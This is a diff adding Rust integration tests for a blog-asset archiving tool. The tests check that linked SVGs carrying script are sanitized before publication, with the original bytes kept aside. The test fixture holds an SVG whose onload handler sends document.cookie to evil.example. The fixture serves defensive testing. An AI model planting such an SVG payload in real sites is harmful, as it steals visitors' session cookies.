@@ -448,3 +448,170 @@ async fn the_single_file_html_keeps_style_urls() {
         "other styles stay: {html}"
     );
 }
+
+const SCRIPTED_SVG: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="fetch('https://evil.example/?'+document.cookie)"><script>alert(document.domain)</script><circle cx="5" cy="5" r="4" fill="teal"/></svg>"#;
+
+fn file_bytes(site: &Site, rel: &str) -> Vec<u8> {
+    std::fs::read(site.path().join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
+}
+
+/// `[![logo](x.svg)](x.svg)`: the link opened the published SVG, whose
+/// `onload` ran with the blog's origin. What `assets/` holds now runs
+/// nothing; the bytes as fetched stay, unpublished, for fixity.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_linked_svg_runs_its_script_on_the_blogs_origin() {
+    let clean = r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><rect width="4" height="4"/></svg>"#;
+    let server = RawServer::start(move |path, _| match path {
+        "/logo.svg" => Reply::ok(SCRIPTED_SVG.as_bytes().to_vec()),
+        "/clean.svg" => Reply::ok(clean.as_bytes().to_vec()),
+        _ => Reply::status(404),
+    })
+    .await;
+    let (logo, plain) = (server.url("/logo.svg"), server.url("/clean.svg"));
+    let site = Site::new();
+    site.write(
+        "s.md",
+        &format!("[![logo]({logo})]({logo})\n\n![c]({plain})\n"),
+    );
+    rotproof(
+        args(&["archive", "s.md", "--archives", "none"]),
+        site.path(),
+    )
+    .await
+    .code(0);
+    let m = site.manifest("s");
+    let e = entry(&m, &logo).clone();
+    let shown = e["path"].as_str().expect("an asset path");
+    let served =
+        String::from_utf8(file_bytes(&site, &format!("archive/s/{shown}"))).expect("UTF-8");
+    for gone in ["onload", "script", "evil.example", "alert"] {
+        assert!(!served.contains(gone), "{gone} published: {served}");
+    }
+    assert!(
+        served.contains(r#"<circle cx="5" cy="5" r="4" fill="teal"/>"#),
+        "{served}"
+    );
+    assert!(
+        served.contains(r#"viewBox="0 0 10 10""#),
+        "case kept: {served}"
+    );
+    let original = e["original"]["path"]
+        .as_str()
+        .expect("the bytes as fetched");
+    assert!(original.starts_with(".rotproof/originals/"), "{original}");
+    assert_eq!(
+        file_bytes(&site, &format!("archive/s/{original}")),
+        SCRIPTED_SVG.as_bytes()
+    );
+    assert_eq!(e["original"]["bytes"], SCRIPTED_SVG.len());
+    assert_eq!(e["bytes"], served.len());
+    // The image and the link both open the safe copy.
+    let index = site.read("archive/s/index.md");
+    assert_eq!(index.matches(shown).count(), 2, "{index}");
+    assert!(!index.contains(original), "{index}");
+    // A clean SVG is published as it was fetched.
+    let c = entry(&m, &plain);
+    assert!(c["original"].is_null(), "{c:#}");
+    assert_eq!(
+        site.read(&format!("archive/s/{}", c["path"].as_str().unwrap_or(""))),
+        clean
+    );
+
+    rotproof(args(&["verify", "archive/s"]), site.path())
+        .await
+        .code(0);
+    // A re-run keeps both files, fetching nothing; a check finds it alive,
+    // not changed (the comparison is with the bytes as fetched).
+    rotproof(
+        args(&["archive", "s.md", "--archives", "none"]),
+        site.path(),
+    )
+    .await
+    .code(0);
+    assert_eq!(server.hits("/logo.svg"), 1);
+    assert_eq!(entry(&site.manifest("s"), &logo)["path"], e["path"]);
+    let out = rotproof(args(&["check", "archive/s", "--json"]), site.path()).await;
+    out.code(0);
+    let json = out.json();
+    let rows = json["results"].as_array().cloned().unwrap_or_default();
+    let row = rows
+        .iter()
+        .find(|r| r["url"] == logo.as_str())
+        .expect("checked");
+    assert_eq!(row["result"], "alive", "{json:#}");
+    rotproof(args(&["verify", "archive/s"]), site.path())
+        .await
+        .code(0);
+}
+
+/// An archive made before SVGs were made safe: its next run publishes the
+/// safe copy and keeps the bytes as fetched, without fetching anything
+/// (the host is gone).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_svg_archived_before_is_made_safe_by_the_next_run() {
+    let server = RawServer::start(|path, _| match path {
+        "/logo.svg" => Reply::ok(SCRIPTED_SVG.as_bytes().to_vec()),
+        _ => Reply::status(404),
+    })
+    .await;
+    let logo = server.url("/logo.svg");
+    let site = Site::new();
+    site.write("s.md", &format!("![logo]({logo})\n"));
+    rotproof(
+        args(&["archive", "s.md", "--archives", "none"]),
+        site.path(),
+    )
+    .await
+    .code(0);
+    // Made as the previous version made it: the raw file in assets/.
+    let mut m = site.manifest("s");
+    let raw = entry(&m, &logo)["original"].clone();
+    let raw_name = raw["path"]
+        .as_str()
+        .expect("original")
+        .rsplit('/')
+        .next()
+        .unwrap_or("")
+        .to_string();
+    std::fs::write(
+        site.path().join(format!("archive/s/assets/{raw_name}")),
+        SCRIPTED_SVG,
+    )
+    .expect("write");
+    for e in m["resources"].as_array_mut().expect("resources") {
+        e["path"] = format!("assets/{raw_name}").into();
+        e["sha256"] = raw["sha256"].clone();
+        e["bytes"] = raw["bytes"].clone();
+        e.as_object_mut().expect("object").remove("original");
+    }
+    std::fs::remove_dir_all(site.path().join("archive/s/.rotproof/originals")).expect("rm");
+    site.write("archive/s/.rotproof/manifest.json", &m.to_string());
+    site.write(
+        "archive/s/index.md",
+        &format!("![logo](assets/{raw_name})\n"),
+    );
+    drop(server);
+
+    rotproof(
+        args(&["archive", "s.md", "--archives", "none"]),
+        site.path(),
+    )
+    .await
+    .code(0);
+    let e = entry(&site.manifest("s"), &logo).clone();
+    let shown = e["path"].as_str().expect("path");
+    assert_ne!(shown, format!("assets/{raw_name}"));
+    assert!(!site.read(&format!("archive/s/{shown}")).contains("onload"));
+    assert_eq!(e["original"]["sha256"], raw["sha256"]);
+    assert!(
+        !site
+            .path()
+            .join(format!("archive/s/assets/{raw_name}"))
+            .exists(),
+        "the scripted file leaves assets/"
+    );
+    assert!(site.read("archive/s/index.md").contains(shown));
+    rotproof(args(&["verify", "archive/s"]), site.path())
+        .await
+        .code(0);
+}
